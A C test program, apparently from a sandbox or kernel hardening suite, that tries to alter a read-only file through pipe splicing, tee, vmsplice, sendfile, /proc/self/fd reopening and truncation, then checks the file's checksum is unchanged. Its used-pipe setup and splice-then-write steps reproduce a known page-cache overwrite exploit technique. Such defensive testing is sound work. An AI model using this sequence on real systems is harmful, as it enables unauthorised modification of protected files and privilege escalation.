/* B63: pages of a read-only file pushed through pipes and sockets, then written over from the pipe
 * side, as the page-cache bugs do it. The file must read the same afterwards. */
#include "guard.h"

#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/uio.h>

static uint64_t checksum(const char *path)
{
    static unsigned char block[1 << 16];
    uint64_t sum = 14695981039346656037ULL;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n;
    while (fd >= 0 && (n = read(fd, block, sizeof block)) > 0)
        for (ssize_t i = 0; i < n; i++)
            sum = (sum ^ block[i]) * 1099511628211ULL;
    close(fd);
    return sum;
}

/* A pipe whose ring slots were all used once: what a stale "may merge" flag needs. */
static void open_used_pipe(int pipefd[2])
{
    static char block[1 << 16];
    if (pipe(pipefd) != 0)
        exit(1);
    int size = fcntl(pipefd[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= (int)sizeof block)
        if (write(pipefd[1], block, sizeof block) < 0)
            exit(1);
    for (int left = size; left > 0; left -= (int)sizeof block)
        if (read(pipefd[0], block, sizeof block) < 0)
            exit(1);
}

static void attack(const char *path)
{
    int pipefd[2], other[2], pair[2], fd = open(path, O_RDONLY | O_CLOEXEC);
    loff_t offset = 1;
    char name[300];
    open_used_pipe(pipefd);
    open_used_pipe(other);
    snprintf(name, sizeof name, "splice.%s", path);
    say(name, splice(fd, &offset, pipefd[1], NULL, 1, 0));
    if (write(pipefd[1], "HOSTILE", 7) != 7)
        return;
    snprintf(name, sizeof name, "tee.%s", path);
    say(name, tee(pipefd[0], other[1], 8, SPLICE_F_NONBLOCK));
    char bytes[8] = "HOSTILE";
    struct iovec iov = {bytes, sizeof bytes};
    snprintf(name, sizeof name, "vmsplice.%s", path);
    say(name, vmsplice(other[1], &iov, 1, SPLICE_F_NONBLOCK | SPLICE_F_GIFT));
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
        off_t at = 1;
        snprintf(name, sizeof name, "sendfile.%s", path);
        say(name, sendfile(pair[0], fd, &at, 4096));
    }
    snprintf(name, sizeof name, "write.%s", path);
    say(name, open(path, O_WRONLY | O_CLOEXEC));
    snprintf(name, sizeof name, "reopen.%s", path);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    say(name, open(self, O_RDWR | O_CLOEXEC));
    snprintf(name, sizeof name, "truncate.%s", path);
    say(name, truncate(path, 0));
}

int main(int argc, char **argv)
{
    guard();
    for (int i = 1; i < argc; i++) {
        char name[300];
        uint64_t before = checksum(argv[i]);
        attack(argv[i]);
        snprintf(name, sizeof name, "unchanged.%s", argv[i]);
        fact(name, "%d", before == checksum(argv[i]));
    }
    return finish();
}
